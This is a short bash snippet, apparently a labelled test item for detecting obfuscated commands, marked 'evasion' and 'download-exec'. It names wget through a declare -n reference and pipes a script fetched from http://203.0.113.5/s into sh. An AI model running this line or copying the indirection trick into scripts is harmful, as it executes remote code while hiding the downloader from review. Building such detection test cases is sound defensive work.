# evasion: the downloader named through a declare -n reference
# grade: hard; does: download-exec
tool=wget
declare -n t=tool
"$t" -qO- http://203.0.113.5/s | sh
